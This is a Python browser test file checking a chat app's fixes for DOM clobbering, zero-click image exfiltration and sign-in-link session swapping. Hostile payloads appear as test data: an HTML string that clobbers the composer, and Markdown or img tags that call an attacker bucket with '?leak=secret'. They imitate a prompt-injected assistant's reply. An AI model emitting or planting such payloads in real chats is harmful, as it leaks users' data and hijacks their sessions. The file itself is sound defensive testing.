"""Issue 13 (outside security review), findings 1, 2 and 6, in headless Chromium against the real stack.

1. Assistant Markdown must not be able to take the place of the page's own
   elements (DOM clobbering through ``id``), nor add form controls.
2. Assistant Markdown must not make the viewer's browser fetch anything:
   images are shown as links, and the CSP allows images only from our bucket.
6. A sign-in link (``#token=``) must not swap the tab's session: in jwt mode
   tokens come only by ``postMessage`` from an allowed parent origin, and a
   token for another user replaces a session only after the user agrees.

The offline AI stand-in quotes the user's text in its reply, so a message
carrying Markdown gives a reply carrying that Markdown, as a prompt-injected
model would.
"""

from __future__ import annotations

import uuid
from types import SimpleNamespace
from urllib.parse import urlparse

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from playwright.async_api import expect

from chatcore.errors import ConfigError
from devstack.processes import free_port
from socket_service.settings import Settings
from socket_service.ui import add_ui_routes, index_html
from tests.browser.conftest import Tab
from tests.conftest import new_user

LOCAL_HOST = "127.0.0.1"  # every process of the test stack listens here


# ------------------------------------------------------------------ helpers
class RequestLog:
    """Every request a page makes; those to a host outside the local stack are also aborted."""

    def __init__(self):
        self.urls: list[str] = []

    @classmethod
    async def watch(cls, page) -> RequestLog:
        log = cls()
        page.on("request", lambda request: log.urls.append(request.url))
        # Aborted, not sent: a failing test must not reach the internet either.
        await page.context.route(lambda url: is_foreign(url), lambda route: route.abort())
        return log

    def foreign(self) -> list[str]:
        return [url for url in self.urls if is_foreign(url)]


def is_foreign(url: str) -> bool:
    parsed = urlparse(url)
    return parsed.scheme in ("http", "https", "ws", "wss") and parsed.hostname != LOCAL_HOST


async def history_of(api, token: str, conversation_id: str, user_id: str) -> list[str]:
    """What ``user_id`` really sent, as the server stored it."""
    status, page = await api.request("GET", f"/api/conversations/{conversation_id}/messages?limit=200", token)
    assert status == 200, page
    return [m["content"] for m in page["items"] if m["role"] == "user" and m.get("user_id") == user_id]


async def hostile_reply_for_victim(service, api, tabs, make_token, clients, markdown: str):
    """Mallory sends ``markdown`` into a conversation shared with the victim, whose tab watches the reply arrive.

    Returns (victim tab, request log, victim token, victim id, conversation id).
    """
    victim, mallory = new_user("victim"), new_user("mallory")
    mallory_token, victim_token = make_token(mallory, name="Mallory"), make_token(victim, name="Victim")
    conv = await api.create_conversation(mallory_token, "shared")
    await api.add_participant(mallory_token, conv["id"], victim)
    tab = await tabs()
    log = await RequestLog.watch(tab.page)
    await tab.open(service, victim_token)
    await tab.open_conversation(conv["id"])

    attacker = await clients(service, mallory_token)
    ack = await attacker.call("send_message", {"conversation_id": conv["id"], "message": markdown,
                                               "client_message_id": uuid.uuid4().hex})
    assert ack["ok"], ack
    await expect(tab.assistant()).to_have_attribute("data-status", "complete")
    return tab, log, victim_token, victim, conv["id"]


async def send_and_see_it_stored(tab: Tab, text: str) -> None:
    """The victim types ``text`` in the composer they see and presses Enter: it shows as their own message."""
    # Found by its place, not by label or id: an element with the composer's id would take the label too.
    box = tab.page.locator("form.composer textarea")
    await box.fill(text)
    await box.press("Enter")
    mine = tab.user_messages(text).and_(tab.page.locator(".mine"))
    await expect(mine).to_have_attribute("data-status", "complete")
    await expect(box).to_have_value("")


async def sending_still_works(tab: Tab, api, token: str, user_id: str, conversation_id: str, *texts: str) -> None:
    """The victim sends ``texts``; afterwards the server holds exactly what they typed, nothing hidden."""
    for text in texts:
        await send_and_see_it_stored(tab, text)
    stored = await history_of(api, token, conversation_id, user_id)
    assert stored[-len(texts):] == list(texts), stored


async def sending_works_before_and_after_a_reload(tab: Tab, api, token: str, user_id: str,
                                                  conversation_id: str) -> None:
    """The victim sends two messages; then, the page reloaded (replies are stored: the reload renders the hostile
    one again, from the history), one more. Each time the server holds exactly what they typed."""
    await sending_still_works(tab, api, token, user_id, conversation_id, "hello", "second message")
    await tab.page.reload()
    await expect(tab.assistant().first).to_have_attribute("data-status", "complete")
    await sending_still_works(tab, api, token, user_id, conversation_id, "after the reload")


# ---------------------------------------------------- finding 1: DOM clobbering
HIDDEN = "transfer-all-funds-to-mallory"
CLOBBER = (f'<textarea id="composer" hidden>{HIDDEN}</textarea>'
           '<form id="composer-form"></form><input id="message-list" name="messages"><button id="send">ok</button>')


async def test_a_reply_cannot_take_the_place_of_the_composer(service, api, tabs, make_token, clients):
    tab, log, token, victim, cid = await hostile_reply_for_victim(service, api, tabs, make_token, clients, CLOBBER)
    await sending_works_before_and_after_a_reload(tab, api, token, victim, cid)
    assert await history_of(api, token, cid, victim) == ["hello", "second message", "after the reload"]
    # No id, name or form control from the reply reaches the page.
    content = tab.assistant().first.locator(".content")  # the hostile reply
    await expect(content).to_contain_text("You wrote")
    assert await content.locator("[id], [name], textarea, input, button, form, select").count() == 0
    assert await tab.page.locator("#composer").count() == 1
    assert log.foreign() == []
    assert tab.errors == [] and tab.dialogs == []


# ---------------------------------------- finding 2: zero-click image exfiltration
# storage.googleapis.com is the host the old CSP allowed for our thumbnails: any bucket there was reachable.
LEAK_MD = "https://storage.googleapis.com/mallory-bucket/md.png?leak=secret"
LEAK_HTML = "https://storage.googleapis.com/mallory-bucket/html.png?leak=secret"
IMAGES = f'![quarterly chart]({LEAK_MD}) <img src="{LEAK_HTML}" alt="logo">'


async def test_images_in_a_reply_are_links_and_nothing_is_fetched(service, api, tabs, make_token, clients):
    tab, log, token, victim, cid = await hostile_reply_for_victim(service, api, tabs, make_token, clients, IMAGES)
    await sending_works_before_and_after_a_reload(tab, api, token, victim, cid)
    # By now the page has shown the reply twice, live and from the history, and sent three messages.
    assert log.foreign() == [], "the page fetched from a foreign host"
    content = tab.assistant().first.locator(".content")  # the hostile reply
    await expect(content.get_by_role("link", name="quarterly chart")).to_have_attribute("href", LEAK_MD)
    await expect(content.get_by_role("link", name="logo")).to_have_attribute("href", LEAK_HTML)
    assert await content.locator("img, picture, video, audio, source, svg").count() == 0
    assert tab.errors == [] and tab.dialogs == []


PRODUCTION_ENV = {"CHAT_ENV": "production", "DEV_TOKENS": "0", "GOOGLE_CLOUD_PROJECT": "acme-chat",
                  "JWT_SECRET": "s" * 32, "CORS_ALLOWED_ORIGINS": "https://chat.acme.example",
                  "UPLOAD_URL": "https://upload.acme.example/", "UPLOAD_BUCKET": "acme-chat-uploads"}


async def test_the_production_csp_allows_images_only_from_our_bucket():
    settings = Settings.from_env(PRODUCTION_ENV)
    app = web.Application()
    add_ui_routes(app, settings)
    async with TestClient(TestServer(app)) as client:
        r = await client.get("/")
        assert r.status == 200
        csp = dict(part.split(" ", 1) for part in r.headers["Content-Security-Policy"].split("; "))
    # A path ending in "/" matches that folder only: other buckets on the same host stay blocked.
    assert csp["img-src"] == "'self' https://storage.googleapis.com/acme-chat-uploads/"


# -------------------------------------------------- finding 6: session swapping
def test_token_parent_origins_default_to_the_framers_and_must_be_among_them():
    framed = {**PRODUCTION_ENV, "FRAME_ANCESTORS": "https://portal.example,https://preview.example"}
    assert Settings.from_env(PRODUCTION_ENV).token_parent_origins == ()  # production: no parent unless named
    assert Settings.from_env(framed).token_parent_origins == ("https://portal.example", "https://preview.example")
    narrowed = Settings.from_env({**framed, "TOKEN_PARENT_ORIGINS": "https://portal.example"})
    assert '<meta name="chat-token-origins" content="https://portal.example">' in index_html(narrowed)
    with pytest.raises(ConfigError, match="TOKEN_PARENT_ORIGINS"):
        Settings.from_env({**framed, "TOKEN_PARENT_ORIGINS": "https://elsewhere.example"})


async def test_a_sign_in_link_does_not_replace_a_session_without_asking(service, tabs, make_token):
    victim, mallory = new_user("victim"), new_user("mallory")
    tab = await (await tabs()).open(service, make_token(victim, name="Victim"))
    await expect(tab.page.locator("#me")).to_contain_text(victim)
    # The same tab (same sessionStorage) later opens Mallory's sign-in link.
    await tab.page.goto("about:blank")
    await tab.page.goto(f"{service}/#token={make_token(mallory, name='Mallory')}")
    dialog = tab.page.get_by_role("dialog", name="Switch account?")
    await expect(dialog).to_contain_text(mallory)
    await tab.screenshot("switch-account-question")
    await dialog.get_by_role("button", name="Stay signed in").click()
    await expect(tab.page.locator("#conn-state")).to_have_attribute("data-state", "connected")
    await expect(tab.page.locator("#me")).to_contain_text(victim)
    assert "token" not in tab.page.url


async def test_a_sign_in_link_switches_the_session_only_when_accepted(service, tabs, make_token):
    victim, other = new_user("victim"), new_user("other")
    tab = await (await tabs()).open(service, make_token(victim))
    await tab.page.goto("about:blank")
    await tab.page.goto(f"{service}/#token={make_token(other)}")
    await tab.page.get_by_role("dialog", name="Switch account?").get_by_role("button", name="Switch").click()
    await expect(tab.page.locator("#me")).to_contain_text(other)
    await expect(tab.page.locator("#conn-state")).to_have_attribute("data-state", "connected")


# The embedding application's page: it frames the chat given in its query and records what the chat posts it.
PARENT_HTML = """<!doctype html><title>parent</title>
<script>
  addEventListener("message", (ev) => { if (ev.data && ev.data.type) document.body.setAttribute("data-" + ev.data.type, "1"); });
</script>
<body><iframe id="chat" style="width:1000px;height:700px"></iframe>
<script>document.getElementById("chat").src = new URLSearchParams(location.search).get("chat");</script>"""


@pytest.fixture(scope="module")
async def parents():
    """Two local pages that may frame the chat: APP may hand it tokens, PREVIEW may not.

    Real local servers, not routed pages: Chromium's local-network checks refuse a
    page of unknown address framing 127.0.0.1.
    """
    async def page(request: web.Request) -> web.Response:
        return web.Response(text=PARENT_HTML, content_type="text/html")

    app = web.Application()
    app.router.add_get("/", page)
    servers = [TestServer(app, host=LOCAL_HOST, port=free_port()) for _ in range(2)]
    for server in servers:
        await server.start_server()
    yield SimpleNamespace(app=str(servers[0].make_url("")).rstrip("/"),
                          preview=str(servers[1].make_url("")).rstrip("/"))
    for server in servers:
        await server.close()


@pytest.fixture(scope="module")
def jwt_service(stack, parents):
    """A socket service in jwt mode (no dev tokens) that both parents may frame; only APP is a token origin."""
    port = free_port()
    stack.start_socket_service(port, name="socket-jwt-embedded", DEV_TOKENS="0",
                               FRAME_ANCESTORS=f"{parents.app},{parents.preview}", TOKEN_PARENT_ORIGINS=parents.app)
    return stack.chat_url(port)


async def test_a_sign_in_link_is_ignored_in_jwt_mode(jwt_service, tabs, make_token):
    tab = await tabs()
    await tab.page.goto(f"{jwt_service}/#token={make_token(new_user('mallory'))}")
    await expect(tab.page.locator("#signin-token-form")).to_be_visible()
    await expect(tab.page.locator("#signin-error")).to_contain_text("sign-in link was ignored")
    assert "token" not in tab.page.url
    assert await tab.page.evaluate("sessionStorage.getItem('chat.token')") is None
    await expect(tab.page.locator("#conn-state")).to_have_attribute("data-state", "idle")


async def test_a_user_can_sign_in_by_pasting_their_own_token_in_jwt_mode(jwt_service, tabs, make_token):
    # Standalone (not framed) in jwt mode, the page asks for the token itself: the one way in
    # that a link cannot take for the user.
    user = new_user("paster")
    tab = await tabs()
    await tab.page.goto(f"{jwt_service}/")
    await expect(tab.page.locator("#signin-wait")).to_be_hidden()
    await tab.page.get_by_label("Token").fill("not a token")
    await tab.page.get_by_role("button", name="Sign in").click()
    await expect(tab.page.locator("#signin-error")).to_contain_text("cannot be read")
    await tab.page.get_by_label("Token").fill(make_token(user))
    await tab.page.get_by_role("button", name="Sign in").click()
    await expect(tab.page.locator("#conn-state")).to_have_attribute("data-state", "connected")
    await expect(tab.page.locator("#me")).to_contain_text(user)
    assert await tab.page.locator("#signin-token").input_value() == ""


async def embedding(tab: Tab, parent_origin: str, chat_url: str) -> SimpleNamespace:
    """Opens the parent page at ``parent_origin``, framing the chat; returns helpers to post tokens into it."""
    await tab.page.goto(f"{parent_origin}/?chat={chat_url}/")
    # In jwt mode the chat says "chat-ready" to its parent once it waits for a token.
    await expect(tab.page.locator("body")).to_have_attribute("data-chat-ready", "1")
    chat = tab.page.frame_locator("#chat")

    async def post(token: str) -> None:
        await tab.page.evaluate("([token, origin]) => document.getElementById('chat').contentWindow"
                                ".postMessage({type: 'chat-token', token}, origin)", [token, chat_url])

    def frame():
        return next(f for f in tab.page.frames if f.url.startswith(chat_url))

    return SimpleNamespace(tab=tab, chat=chat, post=post, frame=frame)


# Chromium does not let a cross-origin frame take the focus (the embedded page's autofocus): expected when framed.
CROSS_ORIGIN_AUTOFOCUS = r"^console\.error: Blocked autofocusing on a <button> element in a cross-origin subframe\."


async def test_only_an_allowed_parent_can_hand_the_page_a_token(jwt_service, parents, tabs, make_token):
    user = new_user("embedded")
    # PREVIEW may frame the chat but is not a token origin: the page says it ignored the token, and waits on.
    preview = await embedding((await tabs()).expect_console(CROSS_ORIGIN_AUTOFOCUS), parents.preview, jwt_service)
    async with preview.tab.page.expect_console_message(lambda m: "ignored a token" in m.text) as refused:
        await preview.post(make_token(user))
    assert parents.preview in (await refused.value).text
    await expect(preview.chat.locator("#signin-wait")).to_be_visible()
    assert await preview.frame().evaluate("sessionStorage.getItem('chat.token')") is None

    app = await embedding((await tabs()).expect_console(CROSS_ORIGIN_AUTOFOCUS), parents.app, jwt_service)
    await app.post(make_token(user))
    await expect(app.chat.locator("#conn-state")).to_have_attribute("data-state", "connected")
    await expect(app.chat.locator("#me")).to_contain_text(user)


async def test_an_allowed_parent_cannot_swap_the_session_without_asking(jwt_service, parents, tabs, make_token):
    first, second = new_user("first"), new_user("second")
    app = await embedding((await tabs()).expect_console(CROSS_ORIGIN_AUTOFOCUS), parents.app, jwt_service)
    await app.post(make_token(first))
    await expect(app.chat.locator("#me")).to_contain_text(first)
    # A fresh token of the same user is a refresh: taken without a question.
    refreshed = make_token(first, ttl_seconds=7200)
    await app.post(refreshed)
    await app.post(make_token(second))
    dialog = app.chat.get_by_role("dialog", name="Switch account?")
    await expect(dialog).to_contain_text(second)
    # Messages arrive in order: the refresh was handled before this question.
    assert await app.frame().evaluate("sessionStorage.getItem('chat.token')") == refreshed
    await dialog.get_by_role("button", name="Stay signed in").click()
    await expect(dialog).to_be_hidden()
    await expect(app.chat.locator("#me")).to_contain_text(first)

    await app.post(make_token(second))
    await dialog.get_by_role("button", name="Switch").click()
    await expect(app.chat.locator("#me")).to_contain_text(second)
    await expect(app.chat.locator("#conn-state")).to_have_attribute("data-state", "connected")
